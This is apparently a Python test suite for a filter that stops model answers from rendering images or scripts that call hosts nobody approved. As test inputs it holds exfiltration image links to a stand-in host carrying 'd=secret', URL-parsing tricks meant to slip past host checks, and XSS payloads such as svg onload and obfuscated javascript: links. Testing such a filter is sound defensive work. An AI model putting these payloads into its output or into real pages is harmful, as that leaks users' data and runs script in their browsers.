"""Images in what a model answers: whatever a screen would fetch from a host that nobody named ends the answer."""

from collections.abc import Iterator, Sequence

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from fusebox.registry import Registry
from gateway.filter import FilterSettings, OutputFilter, StreamFilter

FILTER = OutputFilter(FilterSettings(hosts=("example.com",)), Registry())
EVIL, FINE = "https://evil.test/p?d=secret", "https://example.com/p"
WORDS = "Ordinary words go here. "
BOOK = MarkdownIt("commonmark")
PIECES = [
    "![", "[", "]", f"]({EVIL})", f"](<{EVIL}>)", f"]({FINE})", "][r]", "][]", "![r]", f"\n[r]: {EVIL}\n",
    f"> [r]: {EVIL}\n", "`", "``", "\\", "<", ">", "<b>", '<i a="', '"', "&#91;", "<http://x/[>", "*", "!", "a", " ",
    "\n", "\n\n", "\n> ", "- ",
]  # fmt: skip


def refused(text: str) -> bool:
    return any(threat.rule == "link.image" for threat in FILTER.answer("clerk", text).threats)


def streamed(text: str, size: int = 40) -> StreamFilter:
    stream = StreamFilter(FILTER, "clerk")
    out = "".join(stream.feed(text[i : i + size]) for i in range(0, len(text), size)) + stream.end()
    assert text.startswith(out)
    assert (out == text) == stream.verdict.allowed
    return stream


def by_the_book(tokens: Sequence[Token]) -> Iterator[str]:
    for token in tokens:
        if token.type == "image":
            yield str(token.attrs["src"])
        yield from by_the_book(token.children or ())


@given(st.lists(st.sampled_from(PIECES), max_size=12).map("".join))
@settings(max_examples=3000, deadline=None)
@example(f"![a [b] c]({EVIL})")
@example(f"![a `]` b]({EVIL})")
@example(f"![a\n\\[b]({EVIL})")
@example(f"![x][r]\n\n- > [r]: {EVIL}")
def test_every_image_that_a_parser_sees_is_seen(text: str) -> None:
    if EVIL in by_the_book(BOOK.parse(text)):
        assert refused(text)


@pytest.mark.parametrize(
    "text",
    [
        f"![{'a ' * 260}]({EVIL})",
        f'<img alt="{"a" * 520}" src={EVIL}>',
        f"<img alt={'a' * 320} src={EVIL}>",
        f"<img {'a=b ' * 400} src={EVIL}>",
        f"![x](https://example.com:{'x' * 2000}@evil.test/)",
        f"<img src=https://example.com:{'x' * 2000}@evil.test/>",
    ],
    ids=["alt", "quoted", "bare", "attributes", "address", "address-in-tag"],
)
def test_nothing_is_too_long_to_be_seen(text: str) -> None:
    assert refused(text)
    assert not streamed(WORDS * 60 + text).verdict.allowed


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("![logo][r] ", f"\n\n[r]: {EVIL}\n"),
        (f"[r]: {EVIL}\n\n", "![logo][r]"),
        ("![logo] ", f"\n\n> [logo]: {EVIL}\n"),
        ("![a ", f" b]({EVIL})"),
        (f"![{WORDS * 300}", f" b]({EVIL})"),
        ("![a [b `", f"` ] c]({EVIL})"),
        ('<img alt="', f'" src={EVIL}>'),
        ("<img title='\"' alt='", f"' src={EVIL}>"),
        ("<img data-a=b ", f" src={EVIL}>"),
    ],
)  # fmt: skip
@pytest.mark.parametrize("size", [1, 40, 3000])
def test_what_a_stream_completes_far_behind_is_seen(before: str, after: str, size: int) -> None:
    text = WORDS + before + WORDS * 300 + after + WORDS * 40
    assert refused(text)
    assert not streamed(text, size).verdict.allowed


def test_what_is_complete_is_open_no_more() -> None:
    fine = f"![a [b] c]({FINE}) ![logo][r] <img alt='a' src={FINE}> "
    link = "[`a page`](https://elsewhere.test/a) and <a href=https://elsewhere.test/b>another</a>. "
    text = WORDS + fine + WORDS * 300 + link + f"\n\n[r]: {FINE}\n[s]: {EVIL}\n" + WORDS * 200 + link
    assert streamed(text).verdict.allowed


@pytest.mark.parametrize(
    "tag",
    [
        '<svg title="{long}" onload=alert(1)>', "<svg a='<b>' onload=alert(1)>", '<svg onload=" alert(1)">',
        '<a title="{long}" href=javascript:alert(1)>', '<a href="java&Tab;script:alert(1)">',
        "<a/href=' javascript:alert(1)'>",
    ],
)  # fmt: skip
def test_scripts_are_seen_wherever_they_stand_in_a_tag(tag: str) -> None:
    ruling = FILTER.answer("clerk", tag.format(long="a " * 400))
    assert "link.script" in ruling.counts
    assert not ruling.verdict.allowed


@pytest.mark.parametrize("tag", ["<img onError={() => again(1)} />", "<p title=onload>", "a <b on error = retry"])
def test_source_text_and_words_are_no_scripts(tag: str) -> None:
    assert FILTER.answer("clerk", tag).verdict.allowed


def test_known_hosts_may_be_read_either_way() -> None:
    assert not refused(f"![x]({FINE}/a\\_b.png)")
    assert refused("![x](https://example.com\\@evil.test/a.png)"), "by the book it is evil's"
    assert refused("![x](https://evil.test\\.example.com/a.png)"), "for a browser it is evil's"
